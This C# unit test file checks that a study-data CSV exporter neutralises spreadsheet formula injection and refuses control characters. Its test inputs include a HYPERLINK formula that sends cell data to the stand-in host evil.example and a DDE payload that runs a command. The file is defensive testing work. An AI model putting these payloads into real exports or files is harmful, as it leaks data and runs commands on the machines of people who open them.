using Mibg.Core.Study;
using Mibg.Storage.Export;
using Mibg.Storage.Reading;
using Mibg.Storage.Tests.Postgres;

namespace Mibg.Storage.Tests.Export;

/// <summary>
/// CSV injection (docs/security.md, "Export"): text a spreadsheet would run as a formula is written so that it is
/// shown as text, and the export still reads back to the very same study; control characters are refused.
/// </summary>
public class FormulaNeutralisationTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "+1+1", "-2 lesions, see note", "@SUM(A1:A9)",
        "'=already quoted", "''+two apostrophes", "plain text", "'just an apostrophe",
    ];

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+x", "'+x")]
    [InlineData("-x", "'-x")]
    [InlineData("@x", "'@x")]
    [InlineData("'=x", "''=x")]
    [InlineData("'x", "'x")]
    [InlineData("x=1", "x=1")]
    [InlineData("'", "'")]
    [InlineData("", "")]
    public void Neutralise_and_restore_are_inverse(string text, string written)
    {
        Assert.Equal(written, CsvFormulaGuard.Neutralise(text));
        Assert.Equal(text, CsvFormulaGuard.Restore(written));
    }

    [Fact]
    public void A_study_with_formula_comments_and_column_names_exports_as_text_and_reads_back_the_same()
    {
        var sample = StudyStoreSample.Study();
        var reads = sample.Reads.ToList();
        foreach (var (text, i) in Hostile.Select((t, i) => (t, i)))
            reads.Add(reads[0] with { ScanId = "S2", Reader = "X" + i, Comment = text, Extra = new Dictionary<string, string> { ["=cmd|' /C calc'!A0"] = text } });
        var study = sample with
        {
            Reads = reads,
            ExtraColumns = new Dictionary<string, IReadOnlyList<string>>(sample.ExtraColumns) { ["reads"] = ["=cmd|' /C calc'!A0"] },
        };
        using var folder = new TempFolder();
        StudyExport.ToCsvFolder(study, folder.Path);
        var csv = File.ReadAllText(Path.Combine(folder.Path, "reads.csv"));
        // No cell starts with a formula character: every one is behind an apostrophe.
        foreach (var line in csv.Split('\n').Where(l => l.Length > 0))
            Assert.DoesNotMatch("(^|,)\"?[=+\\-@]", line);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/", csv);
        Assert.Contains(",'''+two apostrophes", csv);
        Assert.StartsWith("scan_id,", csv);
        Assert.Contains(",'=cmd|' /C calc'!A0\n", csv);

        var back = StudyReader.Read(folder.Path, new StudyReadOptions { Today = new DateOnly(2026, 1, 1) });
        Assert.False(back.HasErrors, string.Join('\n', back.Diagnostics));
        Assert.Equal(study.Reads.Select(r => r.Comment), back.Study!.Reads.Select(r => r.Comment));
        Assert.Equal(["=cmd|' /C calc'!A0"], back.Study.ExtraColumns["reads"]);
        Assert.Equal(StudyFiles.CsvText(study), StudyFiles.CsvText(back.Study));
    }

    [Theory]
    [InlineData("bell\u0007")]
    [InlineData("escape\u001b[31m")]
    [InlineData("nul\u0000")]
    public void Control_characters_are_refused_on_export_and_by_the_store(string comment)
    {
        var sample = StudyStoreSample.Study();
        var study = sample with { Reads = [sample.Reads[0] with { Comment = comment }, .. sample.Reads.Skip(1)] };
        using var folder = new TempFolder();
        var e = Assert.Throws<StudyStoreException>(() => StudyExport.ToCsvFolder(study, folder.Path));
        Assert.Contains("control character U+00", e.Message, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFiles(folder.Path, "reads.csv"));
        Assert.Equal(TextRules.ForbiddenControl(comment), comment[^1] == 'm' ? '\u001b' : comment[^1]);
        Assert.Null(TextRules.ForbiddenControl("tab\tand\nnew line\r\n are text"));
    }
}
